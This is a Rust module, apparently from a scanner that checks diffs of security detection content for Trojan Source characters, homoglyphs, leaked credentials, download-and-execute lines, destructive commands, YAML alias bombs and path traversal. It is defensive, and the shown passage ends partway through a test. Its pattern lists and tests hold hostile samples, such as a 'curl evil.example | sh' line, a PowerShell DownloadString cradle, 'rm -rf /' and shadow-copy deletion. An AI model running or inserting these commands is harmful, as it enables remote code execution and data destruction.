//! The injection and hazard rules: what a change must not slip into detection content.
//! Every rule reads the diff alone (no catalog), looks only at what the change adds (the
//! context lines are not its doing), and yields findings with stable fingerprints.

use std::collections::{HashMap, HashSet};

use super::diff::{FileDiff, NewLine};
use super::{Finding, ScanPolicy, Severity};

/// What a file of detection content is, by its path and text.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum ContentKind {
    Sigma,
    Elastic,
    Atomic,
    Caldera,
    /// Other YAML.
    Yaml,
    /// Other TOML.
    Toml,
    /// Anything else (scripts, docs).
    Other,
}

impl ContentKind {
    /// Tells a file's kind from its path and the new side's text.
    #[must_use]
    pub fn of(path: &str, text: &str) -> Self {
        let lower = path.to_ascii_lowercase();
        if lower.ends_with(".toml") {
            if text.contains("[rule]") {
                return Self::Elastic;
            }
            return Self::Toml;
        }
        if !(lower.ends_with(".yml") || lower.ends_with(".yaml")) {
            return Self::Other;
        }
        if lower.contains("atomics/") || text.contains("atomic_tests:") {
            Self::Atomic
        } else if lower.contains("abilities/")
            || (text.contains("tactic:")
                && text.contains("technique:")
                && text.contains("platforms:"))
        {
            Self::Caldera
        } else if text.contains("logsource:") || text.contains("detection:") {
            Self::Sigma
        } else {
            Self::Yaml
        }
    }

    /// Tests run code on hosts; rules only describe it (their text names attacks on purpose).
    #[must_use]
    pub const fn runs_code(self) -> bool {
        matches!(self, Self::Atomic | Self::Caldera | Self::Other)
    }

    #[must_use]
    pub const fn is_yaml(self) -> bool {
        matches!(
            self,
            Self::Sigma | Self::Atomic | Self::Caldera | Self::Yaml
        )
    }

    #[must_use]
    pub const fn is_toml(self) -> bool {
        matches!(self, Self::Elastic | Self::Toml)
    }
}

/// Every hazard finding of the diff.
#[must_use]
pub fn scan(files: &[FileDiff], policy: &ScanPolicy) -> Vec<Finding> {
    let mut findings = Vec::new();
    for file in files {
        path_traversal(file, &mut findings);
        if file.binary || file.new_path.is_none() {
            continue;
        }
        let path = file.path();
        let text = file.new_text();
        let kind = ContentKind::of(path, &text);
        let lines: Vec<NewLine<'_>> = file.new_lines().collect();
        for line in lines.iter().filter(|l| l.added) {
            characters(path, line, &mut findings);
            confusables(path, line, &mut findings);
            secrets(path, line, &mut findings);
            if kind.runs_code() {
                download_execute(path, line, policy, &mut findings);
            }
        }
        if kind.runs_code() && !has_cleanup(kind, &text) {
            for line in lines.iter().filter(|l| l.added) {
                destructive(path, line, &mut findings);
            }
        }
        if kind.is_yaml() {
            yaml_aliases(path, &lines, &mut findings);
            yaml_duplicate_keys(path, file, &mut findings);
        }
        if kind.is_toml() {
            toml_duplicate_keys(path, file, &mut findings);
        }
    }
    super::sort_findings(&mut findings);
    findings
}

fn path_traversal(file: &FileDiff, findings: &mut Vec<Finding>) {
    let mut seen = HashSet::new();
    for path in [file.old_path.as_deref(), file.new_path.as_deref()]
        .into_iter()
        .flatten()
    {
        if !seen.insert(path) {
            continue;
        }
        let normalized = path.replace('\\', "/");
        let bytes = normalized.as_bytes();
        let absolute = normalized.starts_with('/')
            || (bytes.len() >= 2 && bytes[0].is_ascii_alphabetic() && bytes[1] == b':');
        let climbs = normalized.split('/').any(|part| part == "..");
        let control = path.chars().any(|c| c.is_control() || is_bidi(c));
        if absolute || climbs || control {
            let why = if climbs {
                "climbs out of the repository with `..`"
            } else if absolute {
                "is absolute"
            } else {
                "holds control or bidirectional characters"
            };
            findings.push(Finding::new(
                "path-traversal",
                Severity::High,
                path,
                None,
                path,
                format!(
                    "the file name {why}: a consumer that writes it may write outside its folder"
                ),
                "use a plain relative path inside the repository",
            ));
        }
    }
}

/// Trojan Source: the embeddings, overrides and isolates of the Unicode bidirectional
/// algorithm (U+202A–U+202E, U+2066–U+2069).
#[must_use]
pub const fn is_bidi(c: char) -> bool {
    matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
}

/// Characters that render as nothing: zero-width spaces and joiners, word joiners and
/// invisible operators, the byte order mark inside text, soft hyphens, Hangul fillers and the
/// tag characters.
#[must_use]
pub const fn is_invisible(c: char) -> bool {
    matches!(
        c,
        '\u{00AD}'
            | '\u{034F}'
            | '\u{115F}'
            | '\u{1160}'
            | '\u{180E}'
            | '\u{200B}'..='\u{200F}'
            | '\u{2060}'..='\u{2064}'
            | '\u{3164}'
            | '\u{FEFF}'
            | '\u{FFA0}'
            | '\u{E0000}'..='\u{E007F}'
    )
}

fn codepoint(c: char) -> String {
    format!("U+{:04X}", u32::from(c))
}

fn characters(path: &str, line: &NewLine<'_>, findings: &mut Vec<Finding>) {
    if let Some(c) = line.text.chars().find(|&c| is_bidi(c)) {
        findings.push(Finding::new(
            "bidi-control",
            Severity::High,
            path,
            Some(line.number),
            line.text,
            format!(
                "{} is a bidirectional control character: the line displays in another order than it is read (Trojan Source)",
                codepoint(c)
            ),
            "remove it; a rule that must match it writes it as a YAML escape (\"\\u202E\")",
        ));
    }
    // A byte order mark is legitimate at the very start of a file.
    let invisible = line
        .text
        .char_indices()
        .find(|&(i, c)| is_invisible(c) && !(c == '\u{FEFF}' && i == 0 && line.number == 1));
    if let Some((_, c)) = invisible {
        findings.push(Finding::new(
            "invisible-character",
            Severity::Medium,
            path,
            Some(line.number),
            line.text,
            format!(
                "{} renders as nothing: the text differs from what reviewers see",
                codepoint(c)
            ),
            "remove it; a rule that must match it writes it as an escape (\"\\u200B\")",
        ));
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
enum Script {
    Latin,
    Greek,
    Cyrillic,
    Other,
}

fn script(c: char) -> Script {
    match c {
        'a'..='z' | 'A'..='Z' | '\u{00C0}'..='\u{024F}' => Script::Latin,
        '\u{0370}'..='\u{03FF}' | '\u{1F00}'..='\u{1FFF}' => Script::Greek,
        '\u{0400}'..='\u{052F}' => Script::Cyrillic,
        _ => Script::Other,
    }
}

fn confusables(path: &str, line: &NewLine<'_>, findings: &mut Vec<Finding>) {
    if line.text.is_ascii() {
        return;
    }
    let tokens = line
        .text
        .split(|c: char| !(c.is_alphanumeric() || c == '_' || c == '-' || c == '.'));
    for token in tokens {
        let scripts: HashSet<Script> = token.chars().map(script).collect();
        if scripts.contains(&Script::Latin)
            && (scripts.contains(&Script::Cyrillic) || scripts.contains(&Script::Greek))
        {
            let foreign: Vec<String> = token
                .chars()
                .filter(|&c| matches!(script(c), Script::Cyrillic | Script::Greek))
                .map(codepoint)
                .collect();
            findings.push(Finding::new(
                "confusable-identifier",
                Severity::High,
                path,
                Some(line.number),
                token,
                format!(
                    "`{token}` mixes Latin with Greek or Cyrillic letters ({}): a homoglyph that never matches what it looks like",
                    foreign.join(", ")
                ),
                "write the identifier in one script",
            ));
        }
    }
}

/// The positions where `needle` starts in `text` with no letter or digit before it.
fn starts<'a>(text: &'a str, needle: &'a str) -> impl Iterator<Item = usize> + 'a {
    text.match_indices(needle)
        .map(|(i, _)| i)
        .filter(move |&i| {
            text[..i]
                .chars()
                .next_back()
                .is_none_or(|c| !c.is_ascii_alphanumeric())
        })
}

/// The run of characters after `from` that `allowed` accepts.
fn run(text: &str, from: usize, allowed: impl Fn(char) -> bool) -> &str {
    let rest = &text[from..];
    let end = rest.find(|c: char| !allowed(c)).unwrap_or(rest.len());
    &rest[..end]
}

fn redact(secret: &str) -> String {
    let shown: String = secret.chars().take(4).collect();
    format!("{shown}…")
}

fn secret_finding(path: &str, line: &NewLine<'_>, rule: &str, what: &str, secret: &str) -> Finding {
    Finding::new(
        rule,
        Severity::Critical,
        path,
        Some(line.number),
        secret,
        format!("{what} ({}) in the change", redact(secret)),
        "remove it, rotate the credential, and use a placeholder or an input argument",
    )
}

/// Shannon entropy of `text`, in bits per character.
#[must_use]
pub fn entropy(text: &str) -> f64 {
    let mut counts: HashMap<char, u32> = HashMap::new();
    let mut total = 0_u32;
    for c in text.chars() {
        *counts.entry(c).or_default() += 1;
        total += 1;
    }
    if total == 0 {
        return 0.0;
    }
    let total = f64::from(total);
    counts
        .values()
        .map(|&n| {
            let p = f64::from(n) / total;
            -p * p.log2()
        })
        .sum()
}

/// The least entropy (bits per character) of a value assigned to a secret-like name that is
/// taken for a real secret.
pub const ENTROPY_THRESHOLD: f64 = 4.0;
/// The shortest such value.
pub const ENTROPY_MIN_LENGTH: usize = 20;

const SECRET_NAMES: [&str; 10] = [
    "secret",
    "token",
    "password",
    "passwd",
    "pwd",
    "api_key",
    "apikey",
    "access_key",
    "credential",
    "private_key",
];

fn secrets(path: &str, line: &NewLine<'_>, findings: &mut Vec<Finding>) {
    let text = line.text;
    let before = findings.len();
    for prefix in ["AKIA", "ASIA"] {
        for at in starts(text, prefix) {
            let body = run(text, at + 4, |c| {
                c.is_ascii_uppercase() || c.is_ascii_digit()
            });
            if body.len() == 16 {
                let secret = &text[at..at + 20];
                findings.push(secret_finding(
                    path,
                    line,
                    "secret-aws-access-key",
                    "an AWS access key id",
                    secret,
                ));
            }
        }
    }
    for prefix in ["ghp_", "gho_", "ghu_", "ghs_", "ghr_"] {
        for at in starts(text, prefix) {
            let body = run(text, at + 4, |c| c.is_ascii_alphanumeric());
            if body.len() >= 36 {
                let secret = &text[at..at + 4 + body.len()];
                findings.push(secret_finding(
                    path,
                    line,
                    "secret-github-token",
                    "a GitHub token",
                    secret,
                ));
            }
        }
    }
    for at in starts(text, "github_pat_") {
        let body = run(text, at + 11, |c| c.is_ascii_alphanumeric() || c == '_');
        if body.len() >= 22 {
            let secret = &text[at..at + 11 + body.len()];
            findings.push(secret_finding(
                path,
                line,
                "secret-github-token",
                "a GitHub fine-grained token",
                secret,
            ));
        }
    }
    for at in starts(text, "xox") {
        let rest = &text[at + 3..];
        let mut chars = rest.chars();
        let (Some(kind), Some('-')) = (chars.next(), chars.next()) else {
            continue;
        };
        if !"abposr".contains(kind) {
            continue;
        }
        let body = run(text, at + 5, |c| c.is_ascii_alphanumeric() || c == '-');
        if body.len() >= 10 && body.chars().any(|c| c.is_ascii_digit()) {
            let secret = &text[at..at + 5 + body.len()];
            findings.push(secret_finding(
                path,
                line,
                "secret-slack-token",
                "a Slack token",
                secret,
            ));
        }
    }
    if let Some(at) = text.find("-----BEGIN ")
        && text[at..].contains("PRIVATE KEY-----")
    {
        findings.push(secret_finding(
            path,
            line,
            "secret-private-key",
            "a private key block",
            text[at..].trim(),
        ));
    }
    if findings.len() > before {
        return;
    }
    if let Some(value) = assigned_secret(text) {
        findings.push(Finding::new(
            "secret-high-entropy",
            Severity::High,
            path,
            Some(line.number),
            value,
            format!(
                "a high-entropy value ({}, {:.1} bits per character) assigned to a secret-like name",
                redact(value),
                entropy(value)
            ),
            "remove it, rotate the credential, and use a placeholder or an input argument",
        ));
    }
}

/// The value of `<secret-like name> [:=] value` when it looks random enough to be real.
fn assigned_secret(text: &str) -> Option<&str> {
    let lower = text.to_ascii_lowercase();
    for name in SECRET_NAMES {
        for (at, _) in lower.match_indices(name) {
            let after = &text[at + name.len()..];
            // The rest of the name (`_id`, `"`), then the operator.
            let skipped = after
                .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '"' || c == '\''))
                .unwrap_or(after.len());
            let rest = after[skipped..].trim_start();
            let Some(rest) = rest.strip_prefix(':').or_else(|| rest.strip_prefix('=')) else {
                continue;
            };
            let rest = rest.trim_start().trim_start_matches(['"', '\'']);
            let value = run(rest, 0, |c| {
                c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=' | '_' | '-' | '.')
            });
            if value.len() >= ENTROPY_MIN_LENGTH && entropy(value) >= ENTROPY_THRESHOLD {
                return Some(value);
            }
        }
    }
    None
}

const DOWNLOADERS: [&str; 9] = [
    "curl ",
    "wget ",
    "iwr ",
    "invoke-webrequest",
    "invoke-restmethod",
    "irm ",
    "downloadstring(",
    "downloadfile(",
    "start-bitstransfer",
];
const EXECUTORS: [&str; 12] = [
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "| iex",
    "|iex",
    "iex(",
    "iex (",
    "invoke-expression",
    "| python",
    "| pwsh",
    "| powershell",
];

/// The hosts of the `http(s)://` URLs in `text`.
fn url_hosts(text: &str) -> Vec<String> {
    let lower = text.to_ascii_lowercase();
    let mut hosts = Vec::new();
    for scheme in ["http://", "https://"] {
        for (at, _) in lower.match_indices(scheme) {
            let authority = run(&lower, at + scheme.len(), |c| {
                !matches!(c, '/' | '?' | '#' | ' ' | '"' | '\'' | ')' | '|' | '`')
            });
            let host = authority.rsplit('@').next().unwrap_or_default();
            let host = host.split(':').next().unwrap_or_default();
            if !host.is_empty() {
                hosts.push(host.to_owned());
            }
        }
    }
    hosts
}

fn download_execute(
    path: &str,
    line: &NewLine<'_>,
    policy: &ScanPolicy,
    findings: &mut Vec<Finding>,
) {
    let lower = line.text.to_ascii_lowercase();
    let downloads = DOWNLOADERS.iter().any(|d| lower.contains(d));
    let executes = EXECUTORS.iter().any(|e| lower.contains(e));
    if !(downloads && executes) {
        return;
    }
    let outside: Vec<String> = url_hosts(line.text)
        .into_iter()
        .filter(|host| !policy.allows_host(host))
        .collect();
    if outside.is_empty() {
        return;
    }
    findings.push(Finding::new(
        "download-execute",
        Severity::High,
        path,
        Some(line.number),
        line.text,
        format!(
            "the test downloads code from {} and runs it",
            outside.join(", ")
        ),
        "host the payload on an allowed host, or pin it by hash and run it from a file",
    ));
}

const DESTRUCTIVE: [(&str, &str); 12] = [
    ("rm -rf /", "deletes the root file system"),
    ("rm -rf ~", "deletes the home directory"),
    ("rm -rf --no-preserve-root", "deletes the root file system"),
    (
        "vssadmin delete shadows",
        "deletes the volume shadow copies",
    ),
    (
        "vssadmin.exe delete shadows",
        "deletes the volume shadow copies",
    ),
    ("wmic shadowcopy delete", "deletes the volume shadow copies"),
    ("wbadmin delete catalog", "deletes the backup catalog"),
    ("recoveryenabled no", "disables Windows recovery"),
    ("cipher /w:", "wipes free disk space"),
    ("mkfs.", "formats a file system"),
    ("of=/dev/sd", "overwrites a disk"),
    ("del /f /s /q c:\\", "deletes the system drive"),
];

fn destructive(path: &str, line: &NewLine<'_>, findings: &mut Vec<Finding>) {
    let lower = line.text.to_ascii_lowercase();
    let mut what = DESTRUCTIVE.iter().find_map(|(pattern, what)| {
        let at = lower.find(pattern)?;
        // `rm -rf /tmp/x` removes a path, not the root: the root alone ends the argument.
        if pattern.ends_with('/') || pattern.ends_with('~') {
            let next = lower[at + pattern.len()..].chars().next();
            if next.is_some_and(|c| !matches!(c, ' ' | '*' | '"' | '\'' | ';' | '&' | '|')) {
                return None;
            }
        }
        Some(*what)
    });
    if what.is_none() {
        // `format c:` and `format d: /q`, not `--format` or `format-list`.
        what = starts(&lower, "format ").find_map(|at| {
            let before = lower[..at].chars().next_back();
            if before.is_some_and(|c| {
                !(c.is_whitespace() || matches!(c, ';' | '&' | '|' | '"' | '\'' | '(' | '`'))
            }) {
                return None;
            }
            let arg = lower[at + 7..].trim_start();
            let mut chars = arg.chars();
            match (chars.next(), chars.next()) {
                (Some(d), Some(':')) if d.is_ascii_alphabetic() => Some("formats a drive"),
                _ => None,
            }
        });
    }
    if let Some(what) = what {
        findings.push(Finding::new(
            "destructive-command",
            Severity::High,
            path,
            Some(line.number),
            line.text,
            format!("the test {what} and has no cleanup section"),
            "scope the command to what the test created and add a cleanup section (`cleanup_command`)",
        ));
    }
}

fn has_cleanup(kind: ContentKind, text: &str) -> bool {
    match kind {
        ContentKind::Atomic => text.contains("cleanup_command:"),
        ContentKind::Caldera => text.contains("cleanup:"),
        _ => false,
    }
}

/// More alias references than this in one file is an expansion attack, not a convenience.
pub const MAX_ALIASES: usize = 100;
/// Anchors whose own value refers to aliases (a billion-laughs ladder) tolerated.
pub const MAX_NESTED_ANCHORS: usize = 1;

/// Skips quoted parts of a YAML line and its comment, returning what is left.
fn unquoted(text: &str) -> String {
    let mut out = String::new();
    let mut quote: Option<char> = None;
    let mut previous = ' ';
    for c in text.chars() {
        match quote {
            Some(q) if c == q => quote = None,
            Some(_) => {}
            None if (c == '\'' || c == '"')
                && matches!(previous, ' ' | ':' | '-' | '[' | ',' | '{') =>
            {
                quote = Some(c);
            }
            None if c == '#' && (previous == ' ' || out.is_empty()) => break,
            None => out.push(c),
        }
        previous = c;
    }
    out
}

/// `&name` and `*name` tokens where YAML reads them: after a space, `[`, `,`, `{` or `-`.
fn yaml_markers(text: &str, marker: char) -> usize {
    let text = unquoted(text);
    let mut count = 0;
    let mut previous = ' ';
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if c == marker
            && matches!(previous, ' ' | '[' | ',' | '{' | '-')
            && chars
                .peek()
                .is_some_and(|n| n.is_alphanumeric() || *n == '_')
        {
            count += 1;
        }
        previous = c;
    }
    count
}

fn yaml_aliases(path: &str, lines: &[NewLine<'_>], findings: &mut Vec<Finding>) {
    let mut aliases = 0;
    let mut nested = 0;
    let mut first_added: Option<u32> = None;
    for line in lines {
        let here = yaml_markers(line.text, '*');
        let anchors = yaml_markers(line.text, '&');
        aliases += here;
        if anchors > 0 && here > 0 {
            nested += 1;
        }
        if (here > 0 || anchors > 0) && line.added && first_added.is_none() {
            first_added = Some(line.number);
        }
    }
    let Some(line) = first_added else {
        return;
    };
    if aliases > MAX_ALIASES || nested > MAX_NESTED_ANCHORS {
        findings.push(Finding::new(
            "yaml-alias-bomb",
            Severity::High,
            path,
            Some(line),
            &format!("aliases:{aliases} nested:{nested}"),
            format!(
                "{aliases} aliases and {nested} anchors built of aliases: expanding them grows exponentially (billion laughs)"
            ),
            "write the values out; detection content needs no anchors",
        ));
    }
}

/// The key of a YAML mapping line (`key: value`, `key:`), if it is one.
fn yaml_key(text: &str) -> Option<(String, &str)> {
    let trimmed = text.trim_start();
    if let Some(quote) = trimmed.chars().next().filter(|c| *c == '\'' || *c == '"') {
        let end = trimmed[1..].find(quote)? + 1;
        let after = &trimmed[end + 1..];
        let value = after.strip_prefix(':')?;
        if !(value.is_empty() || value.starts_with(' ')) {
            return None;
        }
        return Some((trimmed[1..end].to_owned(), value.trim()));
    }
    let mut search = 0;
    while let Some(offset) = trimmed[search..].find(':') {
        let at = search + offset;
        let after = &trimmed[at + 1..];
        if after.is_empty() || after.starts_with(' ') {
            let key = trimmed[..at].trim_end();
            if key.is_empty() || key.starts_with(['[', '{', '#', '&', '*', '!', '|', '>']) {
                return None;
            }
            return Some((key.to_owned(), after.trim()));
        }
        search = at + 1;
    }
    None
}

fn yaml_duplicate_keys(path: &str, file: &FileDiff, findings: &mut Vec<Finding>) {
    // Scopes of mapping keys by indentation; reset at hunk gaps, where the diff holds nothing.
    for hunk in &file.hunks {
        let mut scopes: Vec<(usize, HashSet<String>)> = Vec::new();
        let mut block_scalar: Option<usize> = None;
        for line in hunk.lines.iter() {
            let (number, text, added) = match line {
                super::diff::HunkLine::Context { new, text, .. } => (*new, text.as_str(), false),
                super::diff::HunkLine::Added { new, text } => (*new, text.as_str(), true),
                super::diff::HunkLine::Removed { .. } => continue,
            };
            let content = text.trim_start();
            let mut indent = text.len() - content.len();
            if content.is_empty() || content.starts_with('#') {
                continue;
            }
            if let Some(parent) = block_scalar {
                if indent > parent {
                    continue;
                }
                block_scalar = None;
            }
            if content == "---" || content == "..." {
                scopes.clear();
                continue;
            }
            let mut content = content;
            // Each `- ` opens a fresh mapping (a list item) at the indentation after it.
            let mut fresh = false;
            while let Some(rest) = content
                .strip_prefix("- ")
                .or_else(|| (content == "-").then_some(""))
            {
                indent += content.len() - rest.trim_start().len();
                content = rest.trim_start();
                fresh = true;
            }
            let Some((key, value)) = yaml_key(content) else {
                continue;
            };
            while scopes
                .last()
                .is_some_and(|(i, _)| *i > indent || (fresh && *i == indent))
            {
                scopes.pop();
            }
            if scopes.last().is_none_or(|(i, _)| *i < indent) {
                scopes.push((indent, HashSet::new()));
            }
            if let Some((_, keys)) = scopes.last_mut()
                && !keys.insert(key.clone())
                && added
            {
                findings.push(Finding::new(
                    "yaml-duplicate-key",
                    Severity::Medium,
                    path,
                    Some(number),
                    &key,
                    format!("the key `{key}` appears twice in one mapping: one silently replaces the other"),
                    "merge the two into one key",
                ));
            }
            if value.starts_with('|') || value.starts_with('>') {
                block_scalar = Some(indent);
            }
        }
    }
}

fn toml_duplicate_keys(path: &str, file: &FileDiff, findings: &mut Vec<Finding>) {
    for hunk in &file.hunks {
        let mut table = String::new();
        let mut keys: HashSet<(String, String)> = HashSet::new();
        let mut tables: HashSet<String> = HashSet::new();
        let mut multiline: Option<&str> = None;
        for line in hunk.lines.iter() {
            let (number, text, added) = match line {
                super::diff::HunkLine::Context { new, text, .. } => (*new, text.as_str(), false),
                super::diff::HunkLine::Added { new, text } => (*new, text.as_str(), true),
                super::diff::HunkLine::Removed { .. } => continue,
            };
            if let Some(delimiter) = multiline {
                if text.contains(delimiter) {
                    multiline = None;
                }
                continue;
            }
            let content = text.trim();
            if content.is_empty() || content.starts_with('#') {
                continue;
            }
            if content.starts_with("[[") {
                table = content.trim_matches(['[', ']']).trim().to_owned();
                // Each array element is a new table: its keys start over.
                keys.retain(|(t, _)| *t != table);
                continue;
            }
            if content.starts_with('[') {
                table = content.trim_matches(['[', ']']).trim().to_owned();
                if !tables.insert(table.clone()) && added {
                    findings.push(Finding::new(
                        "toml-duplicate-key",
                        Severity::Medium,
                        path,
                        Some(number),
                        &format!("[{table}]"),
                        format!("the table `[{table}]` is defined twice"),
                        "merge the two tables",
                    ));
                }
                continue;
            }
            let Some((key, value)) = content.split_once('=') else {
                continue;
            };
            let key = key.trim().trim_matches(['"', '\'']).to_owned();
            let value = value.trim();
            for delimiter in ["'''", "\"\"\""] {
                if value.starts_with(delimiter) && !value[3..].contains(delimiter) {
                    multiline = Some(delimiter);
                }
            }
            if !keys.insert((table.clone(), key.clone())) && added {
                findings.push(Finding::new(
                    "toml-duplicate-key",
                    Severity::Medium,
                    path,
                    Some(number),
                    &format!("{table}.{key}"),
                    format!("the key `{key}` appears twice in `[{table}]`: TOML forbids it and readers differ"),
                    "keep one of the two",
                ));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::diff::parse;
    use super::*;

    fn added(path: &str, body: &str) -> String {
        let lines: Vec<&str> = body.lines().collect();
        let mut diff = format!(
            "diff --git a/{path} b/{path}\nnew file mode 100644\n--- /dev/null\n+++ b/{path}\n@@ -0,0 +1,{} @@\n",
            lines.len()
        );
        for line in lines {
            diff.push('+');
            diff.push_str(line);
            diff.push('\n');
        }
        diff
    }

    fn rules_of(diff: &str) -> Vec<(String, Option<u32>)> {
        let files = parse(diff).unwrap_or_default();
        scan(&files, &ScanPolicy::default())
            .into_iter()
            .map(|f| (f.rule_id, f.line))
            .collect()
    }

    fn one(rule: &str, line: u32) -> Vec<(String, Option<u32>)> {
        vec![(rule.to_owned(), Some(line))]
    }

    const SIGMA: &str = "title: Clean\nid: 0b1d2c4e-1111-4a5b-9c8d-000000000001\nstatus: test\ndescription: |\n    a: b\n    a: b\nlogsource:\n    product: windows\ndetection:\n    selection:\n        - Image|endswith: '\\cmd.exe'\n        - Image|endswith: '\\pwsh.exe'\n    condition: selection\nlevel: high\n";

    #[test]
    fn a_clean_rule_has_no_finding() {
        assert_eq!(rules_of(&added("rules/a.yml", SIGMA)), vec![]);
    }

    #[test]
    fn bidi_controls_are_trojan_source() {
        for c in ['\u{202A}', '\u{202E}', '\u{2066}', '\u{2069}'] {
            let body = SIGMA.replace("title: Clean", &format!("title: Cle{c}an"));
            assert_eq!(
                rules_of(&added("rules/a.yml", &body)),
                one("bidi-control", 1)
            );
        }
    }

    #[test]
    fn invisible_characters_are_found_but_a_leading_bom_is_not() {
        let body = SIGMA.replace("status: test", "status: te\u{200B}st");
        assert_eq!(
            rules_of(&added("rules/a.yml", &body)),
            one("invisible-character", 3)
        );
        let bom = format!("\u{FEFF}{SIGMA}");
        assert_eq!(rules_of(&added("rules/a.yml", &bom)), vec![]);
    }

    #[test]
    fn mixed_script_identifiers_are_confusable() {
        // A Cyrillic `с` (U+0441) in `cmd.exe`: the rule never matches the real binary.
        let body = SIGMA.replace("\\cmd.exe", "\\\u{0441}md.exe");
        assert_eq!(
            rules_of(&added("rules/a.yml", &body)),
            one("confusable-identifier", 11)
        );
        // Whole words in another script are text, not homoglyphs.
        let body = SIGMA.replace("title: Clean", "title: Очистка Clean");
        assert_eq!(rules_of(&added("rules/a.yml", &body)), vec![]);
    }

    #[test]
    fn key_and_token_formats_are_secrets() {
        let cases = [
            ("key: AKIAIOSFODNN7EXAMPLE", "secret-aws-access-key"),
            ("key: ASIAY34FZKBOKMUTVV7A", "secret-aws-access-key"),
            (
                "t: ghp_0123456789abcdefghijABCDEFGHIJ012345",
                "secret-github-token",
            ),
            (
                "t: github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyz",
                "secret-github-token",
            ),
            ("s: xoxb-123456789012-abcdefghij", "secret-slack-token"),
            ("k: -----BEGIN RSA PRIVATE KEY-----", "secret-private-key"),
            ("api_key: 'q8Zr3Lm9XvT2bN7wK4pY6sJ1'", "secret-high-entropy"),
        ];
        for (line, rule) in cases {
            assert_eq!(rules_of(&added("notes.txt", line)), one(rule, 1), "{line}");
        }
        // Near misses: too short, prefixed, low entropy, a name without a value.
        for line in [
            "key: AKIA1234",
            "key: XAKIAIOSFODNN7EXAMPLE",
            "password: aaaaaaaaaaaaaaaaaaaaaaaaaa",
            "CommandLine|contains: ' -password '",
            "ghp_short",
        ] {
            assert_eq!(rules_of(&added("notes.txt", line)), vec![], "{line}");
        }
    }

    #[test]
    fn a_secret_message_does_not_repeat_the_secret() {
        let files = parse(&added("n.txt", "AKIAIOSFODNN7EXAMPLE")).unwrap_or_default();
        let findings = scan(&files, &ScanPolicy::default());
        assert!(!findings[0].message.contains("AKIAIOSFODNN7EXAMPLE"));
    }

    const ATOMIC: &str = "attack_technique: T1059.004\natomic_tests:\n- name: run\n  executor:\n    name: sh\n    command: |\n      COMMAND\n";

    #[test]
    fn tests_that_download_and_run_code_from_elsewhere_are_dangerous() {
        let body = ATOMIC.replace("COMMAND", "curl -s https://evil.example/x.sh | sh");
        assert_eq!(
            rules_of(&added("atomics/T1059.004/T1059.004.yaml", &body)),
            one("download-execute", 7)
        );
        let body = ATOMIC.replace(
            "COMMAND",
            "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')",
        );
        assert_eq!(
            rules_of(&added("atomics/T1059.004/T1059.004.yaml", &body)),
            one("download-execute", 7)
        );
        let allowed = ATOMIC.replace(
            "COMMAND",
            "curl -s https://raw.githubusercontent.com/redcanaryco/x.sh | bash",
        );
        assert_eq!(
            rules_of(&added("atomics/T1059.004/T1059.004.yaml", &allowed)),
            vec![]
        );
        // A Sigma rule names the same command to detect it.
        let rule = SIGMA.replace(
            "condition: selection",
            "condition: selection # curl https://evil.example | sh",
        );
        assert_eq!(rules_of(&added("rules/a.yml", &rule)), vec![]);
    }

    #[test]
    fn destructive_commands_need_a_cleanup_section() {
        for command in [
            "rm -rf /",
            "rm -rf /*",
            "vssadmin delete shadows /all /quiet",
            "format c: /q",
        ] {
            let body = ATOMIC.replace("COMMAND", command);
            assert_eq!(
                rules_of(&added("atomics/T1490/T1490.yaml", &body)),
                one("destructive-command", 7),
                "{command}"
            );
        }
        for command in [
            "rm -rf /tmp/atomic",
            "Get-Thing | Format-List",
            "echo --format x:",
        ] {
            let body = ATOMIC.replace("COMMAND", command);
            assert_eq!(
                rules_of(&added("atomics/T1490/T1490.yaml", &body)),
                vec![],
                "{command}"
            );
        }
        let cleaned = format!(
            "{}    cleanup_command: |\n      vssadmin resize shadowstorage\n",
            ATOMIC.replace("COMMAND", "vssadmin delete shadows /all /quiet")
        );
        assert_eq!(
            rules_of(&added("atomics/T1490/T1490.yaml", &cleaned)),
            vec![]
        );
    }

    #[test]
    fn alias_ladders_are_bombs() {
        let bomb =
            "a: &a [\"lol\",\"lol\"]\nb: &b [*a,*a,*a]\nc: &c [*b,*b,*b]\nd: &d [*c,*c,*c]\n";
        assert_eq!(rules_of(&added("x.yml", bomb)), one("yaml-alias-bomb", 1));
        let wide: String = std::iter::once("base: &x 1\n".to_owned())
            .chain((0..=MAX_ALIASES).map(|i| format!("k{i}: *x\n")))
            .collect();
        assert_eq!(rules_of(&added("x.yml", &wide)), one("yaml-alias-bomb", 1));
        // Wildcards in quoted Sigma values are not aliases.
        let quoted =
            "detection:\n    s:\n        - '*\\a.exe'\n        - \"*b*\"\n    condition: s\n";
        assert_eq!(rules_of(&added("x.yml", quoted)), vec![]);
    }

    #[test]
    fn duplicate_yaml_keys_are_found_in_their_mapping_only() {
        let body = SIGMA.replace(
            "    condition: selection\n",
            "    condition: selection\n    condition: 1 of them\n",
        );
        assert_eq!(
            rules_of(&added("rules/a.yml", &body)),
            one("yaml-duplicate-key", 14)
        );
        // The same key in sibling list items or different mappings is fine.
        let fine = "a:\n  - x: 1\n    y: 2\n  - x: 3\nb:\n  x: 1\nc:\n  x: 2\n";
        assert_eq!(rules_of(&added("f.yml", fine)), vec![]);
    }

    #[test]
    fn duplicate_toml_keys_and_tables_are_found() {
        let body =
            "[rule]\nname = \"a\"\nquery = '''\nname = x\n'''\nname = \"b\"\n[metadata]\n[rule]\n";
        assert_eq!(
            rules_of(&added("rules/r.toml", body)),
            vec![
                ("toml-duplicate-key".to_owned(), Some(6)),
                ("toml-duplicate-key".to_owned(), Some(8)),
            ]
        );
        let arrays = "[[rule.threat]]\nid = 1\n[[rule.threat]]\nid = 2\n";
        assert_eq!(rules_of(&added("rules/r.toml", arrays)), vec![]);
    }

    #[test]
    fn file_names_may_not_leave_the_repository() {
        for path in [
            "../etc/passwd.yml",
            "rules/../../x.yml",
            "/etc/cron.d/x",
            "C:/x.yml",
        ] {
            let diff = format!("--- /dev/null\n+++ {path}\n@@ -0,0 +1 @@\n+x: 1\n");
